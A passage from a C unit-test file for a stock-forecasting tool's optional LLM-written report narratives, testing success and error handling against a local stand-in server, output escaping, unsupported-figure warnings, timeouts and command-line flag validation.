        assert_non_null(cJSON_GetObjectItem(r, "narrative_error"));
        cJSON_DeleteItemFromObject(r, "narrative");
        cJSON_DeleteItemFromObject(r, "narrative_error");
    }
    return doc;
}

/* The narrative object has exactly the keys docs/report.schema.json requires of it. */
static void expect_schema_keys(const cJSON *n) {
    FILE *f = fopen(KR_SOURCE_DIR "/docs/report.schema.json", "rb");
    assert_non_null(f);
    static char text[1 << 16];
    size_t len = fread(text, 1, sizeof text - 1, f);
    fclose(f);
    text[len] = 0;
    cJSON *schema = cJSON_Parse(text);
    assert_non_null(schema);
    const cJSON *def = cJSON_GetObjectItem(cJSON_GetObjectItem(schema, "$defs"), "narrative");
    assert_non_null(def);
    assert_true(cJSON_IsFalse(cJSON_GetObjectItem(def, "additionalProperties")));
    const cJSON *required = cJSON_GetObjectItem(def, "required");
    assert_int_equal(cJSON_GetArraySize(required), cJSON_GetArraySize(n));
    for (const cJSON *k = required->child; k; k = k->next)
        if (!cJSON_GetObjectItem(n, k->valuestring))
            fail_msg("narrative lacks '%s'", k->valuestring);
    assert_true(cJSON_IsString(cJSON_GetObjectItem(n, "text")));
    assert_true(cJSON_IsNumber(cJSON_GetObjectItem(n, "seconds")));
    const cJSON *report = cJSON_GetObjectItem(cJSON_GetObjectItem(schema, "$defs"), "report");
    const cJSON *rreq = cJSON_GetObjectItem(report, "required");
    int has = 0;
    for (const cJSON *k = rreq->child; k; k = k->next)
        has += !strcmp(k->valuestring, "narrative") || !strcmp(k->valuestring, "narrative_error");
    assert_int_equal(has, 2);
    cJSON_Delete(schema);
}

static void test_success_in_every_format(void **state) {
    (void)state;
    kr_report *r = g_set->reports[0];
    char prob[64], url[256];
    prob_figure(r, prob, sizeof prob);
    expect_report(r);
    char *before = render(KR_FORMAT_JSON);

    /* The base URL, the endpoint itself and a trailing slash all reach /ok/api/generate. */
    const char *forms[] = { "ok", "ok/api/generate", "ok/" };
    kr_narrative *n = NULL;
    for (int i = 0; i < 3; i++) {
        int hits = atomic_load(&g_hits[M_OK]);
        kr_narrative_params p = params(forms[i], 10);
        kr_narrative_free(n);
        n = generate(r, &p);
        if (!n->text) fail_msg("%s: %s", forms[i], n->error);
        assert_int_equal(atomic_load(&g_hits[M_OK]), hits + 1);
    }
    snprintf(url, sizeof url, "http://127.0.0.1:%d/ok/api/generate", g_port);
    char want[256];
    snprintf(want, sizeof want,
             "In the model's sampled paths, about %s%% finish above the last close. These are "
             "statistics of a "
             "model's forecasts, not a promise.",
             prob);
    assert_string_equal(n->text, want); /* trimmed */
    assert_string_equal(n->model, TEST_MODEL);
    assert_string_equal(n->url, url);
    assert_int_equal(n->status, KR_OK);
    assert_int_equal(n->http_status, 200);
    assert_string_equal(n->warning, "");
    assert_string_equal(n->error, "");
    assert_true(n->seconds >= 0 && n->seconds < 10);
    pthread_mutex_lock(&g_mu);
    char needle[96];
    snprintf(needle, sizeof needle, "\"prob_up_pct\":%s,", prob);
    assert_non_null(strstr(g_last_prompt, needle));
    pthread_mutex_unlock(&g_mu);

    r->narrative = n;
    char *json = render(KR_FORMAT_JSON), *md = render(KR_FORMAT_MD), *html = render(KR_FORMAT_HTML);
    r->narrative = NULL;

    cJSON *doc = cJSON_Parse(json);
    cJSON *jn = cJSON_GetObjectItem(report_json(doc, 0), "narrative");
    assert_true(cJSON_IsObject(jn));
    assert_string_equal(cJSON_GetObjectItem(jn, "text")->valuestring, want);
    assert_string_equal(cJSON_GetObjectItem(jn, "model")->valuestring, TEST_MODEL);
    assert_string_equal(cJSON_GetObjectItem(jn, "url")->valuestring, url);
    assert_true(cJSON_IsNull(cJSON_GetObjectItem(jn, "warning")));
    assert_true(cJSON_IsNull(cJSON_GetObjectItem(report_json(doc, 0), "narrative_error")));
    assert_true(cJSON_IsNull(cJSON_GetObjectItem(report_json(doc, 1), "narrative")));
    expect_schema_keys(jn);
    cJSON_Delete(doc);

    /* Everything but the narrative is what it was without one. */
    cJSON *a = numbers_only(before), *b = numbers_only(json);
    assert_true(cJSON_Compare(a, b, 1));
    cJSON_Delete(a);
    cJSON_Delete(b);

    /* Markdown and HTML: labelled, under the summary, before the tables. */
    const char *label = "Narrative (written by " TEST_MODEL LABEL_TAIL;
    const char *lm = strstr(md, label), *sm = strstr(md, "**Summary**"),
               *tm = strstr(md, "### At the horizon");
    assert_non_null(lm);
    assert_true(sm && sm < lm && lm < tm);
    snprintf(needle, sizeof needle, "> In the model's sampled paths, about %s%%", prob);
    assert_non_null(strstr(md, needle));
    const char *lh = strstr(html, label), *sh = strstr(html, "<h3>Summary</h3>"),
               *ch = strstr(html, "<svg");
    assert_non_null(lh);
    assert_true(sh && sh < lh && lh < ch);
    assert_non_null(strstr(html, "In the model&#39;s sampled paths"));
    /* The other report has no narrative and shows none. */
    const char *msft = strstr(md, "## MSFT");
    assert_non_null(msft);
    assert_null(strstr(msft, "Narrative"));
    free(json);
    free(md);
    free(html);
    free(before);
    kr_narrative_free(n);
}

static void test_ndjson_answer(void **state) {
    (void)state;
    kr_report *r = g_set->reports[0];
    char prob[64], want[256];
    prob_figure(r, prob, sizeof prob);
    expect_report(r);
    kr_narrative_params p = params("ndjson", 10);
    kr_narrative *n = generate(r, &p);
    if (!n->text) fail_msg("%s", n->error);
    snprintf(want, sizeof want,
             "About %s%% of <paths> finish higher & that is all.\n\nSecond paragraph.", prob);
    assert_string_equal(n->text, want);
    assert_string_equal(n->warning, "");

    /* The text is escaped and its paragraphs kept. */
    r->narrative = n;
    char *md = render(KR_FORMAT_MD), *html = render(KR_FORMAT_HTML);
    r->narrative = NULL;
    assert_non_null(
        strstr(md, "of &lt;paths&gt; finish higher &amp; that is all.\n>\n> Second paragraph.\n"));
    assert_non_null(strstr(
        html, "of &lt;paths&gt; finish higher &amp; that is all.</p>\n<p>Second paragraph.</p>"));
    assert_null(strstr(html, "<paths>"));
    free(md);
    free(html);
    kr_narrative_free(n);

    /* A stream that stops before "done": true is no narrative. */
    p = params("cut", 10);
    n = generate(r, &p);
    assert_null(n->text);
    assert_int_equal(n->status, KR_ERR_FORMAT);
    assert_non_null(strstr(n->error, "ended before"));
    kr_narrative_free(n);
}

/* A failed narrative: no text, the reason after the URL, and in the renderings null + error. */
static void expect_failure(kr_narrative *n, kr_status status, const char *url, const char *reason) {
    if (n->text) fail_msg("expected a failure, got text '%s'", n->text);
    assert_int_equal(n->status, status);
    if (strncmp(n->error, url, strlen(url)) || !strstr(n->error, reason))
        fail_msg("error '%s' does not start with '%s' or lacks '%s'", n->error, url, reason);
    kr_report *r = g_set->reports[0];
    char *before = render(KR_FORMAT_JSON);
    r->narrative = n;
    char *json = render(KR_FORMAT_JSON), *md = render(KR_FORMAT_MD), *html = render(KR_FORMAT_HTML);
    r->narrative = NULL;
    cJSON *doc = cJSON_Parse(json);
    assert_true(cJSON_IsNull(cJSON_GetObjectItem(report_json(doc, 0), "narrative")));
    assert_string_equal(cJSON_GetObjectItem(report_json(doc, 0), "narrative_error")->valuestring,
                        n->error);
    cJSON_Delete(doc);
    cJSON *a = numbers_only(before), *b = numbers_only(json);
    assert_true(cJSON_Compare(a, b, 1));
    cJSON_Delete(a);
    cJSON_Delete(b);
    assert_non_null(strstr(md, "*No narrative: "));
    assert_null(strstr(md, "Narrative (written by"));
    assert_non_null(strstr(html, "No narrative: "));
    free(before);
    free(json);
    free(md);
    free(html);
}

static void test_http_500(void **state) {
    (void)state;
    expect_report(g_set->reports[0]);
    kr_narrative_params p = params("fail500", 10);
    kr_narrative *n = generate(g_set->reports[0], &p);
    char url[256];
    snprintf(url, sizeof url, "http://127.0.0.1:%d/fail500/api/generate: ", g_port);
    expect_failure(n, KR_ERR_IO, url, "HTTP 500: stand-in: model crashed");
    assert_int_equal(n->http_status, 500);
    kr_narrative_free(n);

    /* 200 with something that is not Ollama JSON. */
    p = params("garbage", 10);
    n = generate(g_set->reports[0], &p);
    snprintf(url, sizeof url, "http://127.0.0.1:%d/garbage/api/generate: ", g_port);
    expect_failure(n, KR_ERR_FORMAT, url, "not Ollama JSON");
    kr_narrative_free(n);

    /* A path the server does not have. */
    char bad[256];
    snprintf(bad, sizeof bad, "http://127.0.0.1:%d/nowhere", g_port);
    p.url = bad;
    n = generate(g_set->reports[0], &p);
    expect_failure(n, KR_ERR_IO, bad, "HTTP 404: stand-in: no such path");
    kr_narrative_free(n);
}

static void test_connection_refused(void **state) {
    (void)state;
    char url[256];
    kr_narrative_params p = kr_narrative_default_params();
    snprintf(url, sizeof url, "http://127.0.0.1:%d", g_closed_port);
    p.url = url;
    double t0 = kr_now_seconds();
    kr_narrative *n = generate(g_set->reports[0], &p);
    assert_true(kr_now_seconds() - t0 < 5);
    snprintf(url, sizeof url, "http://127.0.0.1:%d/api/generate: ", g_closed_port);
    expect_failure(n, KR_ERR_IO, url, "connection refused");
    assert_int_equal(n->http_status, 0);
    assert_string_equal(n->model, "gemma3"); /* the default */
    kr_narrative_free(n);
}

static void test_timeout(void **state) {
    (void)state;
    expect_report(g_set->reports[0]);
    kr_narrative_params p = params("sleep", 1);
    double t0 = kr_now_seconds();
    kr_narrative *n = generate(g_set->reports[0], &p);
    double dt = kr_now_seconds() - t0;
    if (dt < 0.9 || dt > SLEEP_SECONDS - 0.5)
        fail_msg("timed out after %.2f s, want about 1 s", dt);
    char url[256];
    snprintf(url, sizeof url, "http://127.0.0.1:%d/sleep/api/generate: ", g_port);
    expect_failure(n, KR_ERR_TIMEOUT, url, "no complete answer within 1 s");
    kr_narrative_free(n);
}

static void detach(void) {
    for (int i = 0; i < g_set->n; i++) g_set->reports[i]->narrative = NULL;
}

static int abort_always(void *user) {
    atomic_fetch_add((atomic_int *)user, 1);
    return 1;
}

/* A budget for the whole set (a server's request deadline): a model slower than what is left
 * is cut when it is spent, whatever the per-request timeout; once it is spent nobody is asked;
 * and should_abort stops a request (a client that left). */
static void test_budget_and_abort(void **state) {
    (void)state;
    char a[64], b[64];
    prob_figure(g_set->reports[0], a, sizeof a);
    prob_figure(g_set->reports[1], b, sizeof b);
    expect_probs(a, b);
    char url[256];
    snprintf(url, sizeof url, "http://127.0.0.1:%d/sleep/api/generate: ", g_port);

    kr_narrative_params p = params("sleep", 30);
    p.budget_s = 0.5;
    int hits = atomic_load(&g_hits[M_SLEEP]);
    kr_narrative **v = NULL;
    kr_error err = { 0 };
    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_OK);
    detach();
    /* Without the budget the answer would come after SLEEP_SECONDS, well within 30 s. */
    expect_failure(v[0], KR_ERR_TIMEOUT, url, "(timeout)");
    assert_null(v[1]->text);
    assert_int_equal(v[1]->status, KR_ERR_TIMEOUT);
    assert_int_equal(atomic_load(&g_hits[M_SLEEP]), hits + 1);
    kr_narrative_free_all(v, g_set->n);

    /* Spent before the first request: not asked at all, and the error says so. */
    p.budget_s = 1e-9;
    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_OK);
    detach();
    for (int i = 0; i < g_set->n; i++)
        expect_failure(v[i], KR_ERR_TIMEOUT, url, "not asked: the 0.0 s allowed");
    assert_int_equal(atomic_load(&g_hits[M_SLEEP]), hits + 1);
    kr_narrative_free_all(v, g_set->n);

    /* Stopped by the caller: cancelled, and the others not asked. */
    atomic_int polls = 0;
    p = params("sleep", 30);
    p.should_abort = abort_always;
    p.abort_user = &polls;
    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_OK);
    detach();
    expect_failure(v[0], KR_ERR_CANCELLED, url, "stopped by the caller");
    assert_int_equal(v[1]->status, KR_ERR_CANCELLED);
    assert_true(atomic_load(&polls) >= 1);
    kr_narrative_free_all(v, g_set->n);
}

static void test_figures_not_in_report(void **state) {
    (void)state;
    kr_report *r = g_set->reports[0];
    expect_report(r);
    kr_narrative_params p = params("figures", 10);
    kr_narrative *n = generate(r, &p);
    assert_non_null(n->text);
    assert_non_null(strstr(n->text, "4321.987%")); /* kept as written */
    assert_string_equal(n->warning, KR_NARRATIVE_WARNING);
    assert_string_equal(n->unsupported, "4321.987");
    r->narrative = n;
    char *json = render(KR_FORMAT_JSON), *md = render(KR_FORMAT_MD), *html = render(KR_FORMAT_HTML);
    r->narrative = NULL;
    cJSON *doc = cJSON_Parse(json);
    cJSON *jn = cJSON_GetObjectItem(report_json(doc, 0), "narrative");
    assert_string_equal(cJSON_GetObjectItem(jn, "warning")->valuestring,
                        "the narrative mentions figures not in the report");
    expect_schema_keys(jn);
    cJSON_Delete(doc);
    assert_non_null(strstr(
        md, "*Warning: the narrative mentions figures not in the report (for example 4321.987).*"));
    assert_non_null(strstr(
        html, "Warning: the narrative mentions figures not in the report (for example 4321.987)."));
    free(json);
    free(md);
    free(html);
    kr_narrative_free(n);
}

static void test_batch(void **state) {
    (void)state;
    char a[64], b[64];
    prob_figure(g_set->reports[0], a, sizeof a);
    prob_figure(g_set->reports[1], b, sizeof b);
    expect_probs(a, b);
    kr_error err;
    kr_narrative **v = NULL;

    /* One narrative per symbol, each from its own figures. */
    int hits = atomic_load(&g_hits[M_OK]);
    kr_narrative_params p = params("ok", 10);
    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_OK);
    assert_int_equal(atomic_load(&g_hits[M_OK]), hits + 2);
    for (int i = 0; i < 2; i++) {
        assert_ptr_equal(g_set->reports[i]->narrative, v[i]);
        assert_non_null(v[i]->text);
        char needle[80];
        snprintf(needle, sizeof needle, "about %s%%", i == 0 ? a : b);
        assert_non_null(strstr(v[i]->text, needle));
    }
    char *json = render(KR_FORMAT_JSON);
    cJSON *doc = cJSON_Parse(json);
    for (int i = 0; i < 2; i++)
        assert_true(cJSON_IsObject(cJSON_GetObjectItem(report_json(doc, i), "narrative")));
    cJSON_Delete(doc);
    free(json);
    detach();
    kr_narrative_free_all(v, g_set->n);

    /* A server that never answers is waited for once, not once per symbol. */
    hits = atomic_load(&g_hits[M_SLEEP]);
    p = params("sleep", 1);
    double t0 = kr_now_seconds();
    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_OK);
    double dt = kr_now_seconds() - t0;
    if (dt > 1.9) fail_msg("a batch against a silent server took %.2f s", dt);
    assert_int_equal(atomic_load(&g_hits[M_SLEEP]), hits + 1);
    assert_int_equal(v[1]->status, KR_ERR_TIMEOUT);
    assert_null(v[1]->text);
    assert_non_null(strstr(v[1]->error, "not asked again after the failure for AAPL"));
    assert_ptr_equal(g_set->reports[1]->narrative, v[1]);
    detach();
    kr_narrative_free_all(v, g_set->n);

    /* An HTTP error may be one prompt's problem: the next symbol is still asked. */
    hits = atomic_load(&g_hits[M_FAIL500]);
    p = params("fail500", 10);
    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_OK);
    assert_int_equal(atomic_load(&g_hits[M_FAIL500]), hits + 2);
    assert_null(v[0]->text);
    assert_null(v[1]->text);
    detach();
    kr_narrative_free_all(v, g_set->n);

    /* Caller errors are errors. */
    p.timeout_s = 0;
    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_ERR_INVALID_ARG);
    assert_null(v);
    assert_null(g_set->reports[0]->narrative);
    p = params("ok", 10);
    p.url = "gopher://x";
    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_ERR_INVALID_ARG);
}

/* ------------------------------------------------------------------ the executable */

typedef kr_test_run run_result;

static const run_result *run(const char *args) { return kr_test_kronos(g_tmp, "", args); }

static cJSON *run_json(const char *args, char *err_copy, size_t cap) {
    const run_result *r = run(args);
    if (r->code != 0) fail_msg("kronos %s: exit %d: %s", args, r->code, r->err);
    if (err_copy) snprintf(err_copy, cap, "%s", r->err);
    cJSON *j = cJSON_Parse(r->out);
    if (!j) fail_msg("kronos %s: output is not JSON", args);
    return j;
}

static void test_cli(void **state) {
    (void)state;
    char args[4096], stderr_text[8192];
    snprintf(args, sizeof args, "ingest --symbol AAPL --interval 1d --db %s %s/data/AAPL_1d.csv",
             g_db, KR_SOURCE_DIR);
    const run_result *r = run(args);
    if (r->code != 0) fail_msg("ingest: %s", r->err);

    const char *base = "analyze AAPL --paths 8 --horizon 5 --seed 3";
    snprintf(args, sizeof args, "%s --db %s", base, g_db);
    cJSON *plain = run_json(args, NULL, 0);
    cJSON *rp = report_json(plain, 0);
    assert_true(cJSON_IsNull(cJSON_GetObjectItem(rp, "narrative")));
    assert_true(cJSON_IsNull(cJSON_GetObjectItem(rp, "narrative_error")));
    char prob[64];
    snprintf(prob, sizeof prob, "%.1f",
             cJSON_GetObjectItem(cJSON_GetObjectItem(rp, "statistics"), "prob_up")->valuedouble *
                 100.0);
    expect_probs(prob, NULL);

    /* With the stand-in: the same numbers, plus the narrative. */
    int hits = atomic_load(&g_hits[M_OK]);
    snprintf(args, sizeof args,
             "%s --db %s --llm-url http://127.0.0.1:%d/ok --llm-model %s --llm-timeout 20", base,
             g_db, g_port, TEST_MODEL);
    cJSON *with = run_json(args, stderr_text, sizeof stderr_text);
    assert_int_equal(atomic_load(&g_hits[M_OK]), hits + 1);
    assert_null(strstr(stderr_text, "warning"));
    cJSON *rw = report_json(with, 0);
    const char *same[] = { "last",      "history",     "forecast", "statistics",
                           "technical", "calibration", "summary" };
    for (size_t i = 0; i < sizeof same / sizeof same[0]; i++)
        if (!cJSON_Compare(cJSON_GetObjectItem(rp, same[i]), cJSON_GetObjectItem(rw, same[i]), 1))
            fail_msg("'%s' differs with --llm-url", same[i]);
    assert_true(cJSON_Compare(cJSON_GetObjectItem(plain, "ranking"),
                              cJSON_GetObjectItem(with, "ranking"), 1));
    cJSON *n = cJSON_GetObjectItem(rw, "narrative");
    assert_true(cJSON_IsObject(n));
    char needle[96];
    snprintf(needle, sizeof needle, "about %s%% finish above", prob);
    assert_non_null(strstr(cJSON_GetObjectItem(n, "text")->valuestring, needle));
    assert_string_equal(cJSON_GetObjectItem(n, "model")->valuestring, TEST_MODEL);
    assert_true(cJSON_IsNull(cJSON_GetObjectItem(rw, "narrative_error")));
    cJSON_Delete(with);
    cJSON_Delete(plain);

    snprintf(args, sizeof args,
             "%s --db %s --format md --llm-url http://127.0.0.1:%d/ok/api/generate --llm-model %s",
             base, g_db, g_port, TEST_MODEL);
    r = run(args);
    assert_int_equal(r->code, 0);
    assert_non_null(strstr(r->out, "**Narrative (written by " TEST_MODEL LABEL_TAIL "**"));

    /* Nothing listening: the analysis still succeeds; stderr names the URL and the reason. */
    snprintf(args, sizeof args, "%s --db %s --llm-url http://127.0.0.1:%d", base, g_db,
             g_closed_port);
    cJSON *dead = run_json(args, stderr_text, sizeof stderr_text);
    snprintf(needle, sizeof needle,
             "warning: no narrative for AAPL: http://127.0.0.1:%d/api/generate: connection refused",
             g_closed_port);
    if (!strstr(stderr_text, needle)) fail_msg("stderr '%s' lacks '%s'", stderr_text, needle);
    cJSON *rd = report_json(dead, 0);
    assert_true(cJSON_IsNull(cJSON_GetObjectItem(rd, "narrative")));
    assert_non_null(
        strstr(cJSON_GetObjectItem(rd, "narrative_error")->valuestring, "connection refused"));
    cJSON_Delete(dead);

    /* Bad flags: exit 2 before anything runs. */
    static const struct {
        const char *flags, *needle;
    } bad[] = {
        { "--llm-url ftp://127.0.0.1", "--llm-url" },
        { "--llm-url 127.0.0.1:11434", "--llm-url" },
        { "--llm-url http://127.0.0.1:1 --llm-timeout 0", "--llm-timeout" },
        { "--llm-url http://127.0.0.1:1 --llm-timeout abc", "--llm-timeout" },
        { "--llm-url http://127.0.0.1:1 --llm-model ''", "--llm-model" },
        { "--llm-model gemma3", "need --llm-url" },
        { "--llm-timeout 5", "need --llm-url" },
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        snprintf(args, sizeof args, "analyze AAPL --db %s %s", g_db, bad[i].flags);
        r = run(args);
        if (r->code != 2 || !strstr(r->err, bad[i].needle))
            fail_msg("kronos %s: exit %d (want 2), stderr '%s' (want '%s')", args, r->code, r->err,
                     bad[i].needle);
    }
    snprintf(args, sizeof args, "analyze --help");
    r = run(args);
    assert_non_null(strstr(r->out, "--llm-url URL"));
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_endpoint),
        cmocka_unit_test(test_parse_answer),
        cmocka_unit_test(test_guard),
        cmocka_unit_test(test_guard_ignores_keys),
        cmocka_unit_test(test_parse_answer_hostile),
        cmocka_unit_test(test_hostile_answer),
        cmocka_unit_test(test_prompt_and_body),
        cmocka_unit_test(test_success_in_every_format),
        cmocka_unit_test(test_ndjson_answer),
        cmocka_unit_test(test_http_500),
        cmocka_unit_test(test_connection_refused),
        cmocka_unit_test(test_timeout),
        cmocka_unit_test(test_budget_and_abort),
        cmocka_unit_test(test_figures_not_in_report),
        cmocka_unit_test(test_batch),
        cmocka_unit_test(test_cli),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
